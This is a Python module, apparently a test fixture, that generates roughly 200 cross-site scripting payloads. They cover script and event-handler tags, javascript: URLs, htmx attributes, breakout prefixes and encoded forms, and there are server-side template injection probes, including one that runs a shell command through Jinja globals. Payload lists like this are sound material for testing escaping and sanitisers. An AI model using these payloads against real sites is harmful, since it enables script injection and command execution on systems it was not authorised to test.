"""200 pieces of text that run a script, call an alert or change the page where something forgets to escape them."""

from __future__ import annotations

from typing import Final

CANARY: Final = "window.__ran=(window.__ran||0)+1"
_CODE: Final = (CANARY, "alert(1)")
_ELEMENTS: Final = (
    "<script>{0}</script>",
    "<ScRiPt>{0}</sCrIpT>",
    "<script src=data:text/javascript,{0}></script>",
    "<img src=x onerror={0}>",
    "<img src=x onerror='{0}'>",
    '<img/src="x"/onerror="{0}">',
    "<svg onload={0}>",
    "<svg/onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<body onload={0}>",
    '<iframe src="javascript:{0}"></iframe>',
    "<iframe srcdoc='<script>parent.{0}</script>'></iframe>",
    "<input onfocus={0} autofocus>",
    "<select onfocus={0} autofocus>",
    "<textarea onfocus={0} autofocus>",
    "<details open ontoggle={0}>",
    "<video><source onerror={0}></video>",
    "<audio src=x onerror={0}>",
    "<object data=javascript:{0}>",
    "<embed src=javascript:{0}>",
    "<a href=javascript:{0} autofocus onfocus={0}>x</a>",
    '<math><mi//xlink:href="data:x,<script>{0}</script>">',
    "<marquee onstart={0}>x",
    "<form action=javascript:{0}><button>x</button></form>",
    "<isindex type=image src=1 onerror={0}>",
    '<meta http-equiv=refresh content="0;url=javascript:{0}">',
    "<link rel=stylesheet href=javascript:{0}>",
    "<style>@import 'javascript:{0}';</style>",
    "<style onload={0}></style>",
    "<base href=javascript:{0}//>",
    '<div style="background:url(javascript:{0})">',
    "<table background=javascript:{0}>",
    "<template><script>{0}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={0}>">',
    '<div hx-on:load="{0}">',
    '<div hx-on::load="{0}" hx-get="/" hx-trigger="load">',
    "<div data-hx-on:click={0} hx-trigger=load hx-get=/x>",
    '<button hx-get=/ hx-trigger="load[{0}]">',
    "<img src=x:x hx-vals='js:{{a:{0}}}'>",
    "<dialog open onclose={0}><form method=dialog><button autofocus>",
)
_WAYS_OUT: Final = (
    "{0}",
    '"><{1}',
    "'><{1}",
    "</pre>{0}",
    "</textarea>{0}",
    "</option></select>{0}",
    "</title>{0}",
    "</script>{0}",
    "<!--{0}-->",
    "--><!-- >{0}",
)
_ATTRIBUTES: Final = (
    '" onmouseover="{0}" x="',
    "' onmouseover='{0}' x='",
    '" autofocus onfocus="{0}',
    "' autofocus onfocus='{0}",
    "` onfocus={0} autofocus x=`",
    "javascript:{0}",
    "JaVaScRiPt:{0}",
    "java\tscript:{0}",
    "data:text/html,<script>{0}</script>",
    '\\"><script>{0}</script>',
)
_TEMPLATES: Final = (
    "{{{{ 7*7 }}}}{0}",
    "{{% for x in () %}}{0}",
    "{{{{ self.__init__.__globals__ }}}}{0}",
    "${{{0}}}",
    "<%= {0} %>",
    "#{{{0}}}",
    "{{{{ cycler.__init__.__globals__.os.popen('id') }}}}{0}",
    "{{#{0}#}}",
    "{{{{ '<b>'|safe }}}}{0}",
    "{{{{ request }}}}{0}",
)


def payloads() -> list[str]:
    """All of them, each once."""
    elements = [element.format(code) for element in _ELEMENTS for code in _CODE]
    found = [
        *elements,
        *(way.format(element, element.lstrip("<")) for way in _WAYS_OUT[1:] for element in elements[:24:3]),
        *(attribute.format(code) for attribute in _ATTRIBUTES for code in _CODE),
        *(form.format(element) for form in _TEMPLATES for element in elements[:6:3]),
        *(element.replace("<", "＜").replace(">", "＞") for element in elements[:6]),
        *(element.replace("<", "&lt;").replace(">", "&gt;") for element in elements[:4]),
        *(element.replace("<", "\\u003c") for element in elements[:4]),
    ]
    return list(dict.fromkeys(found))
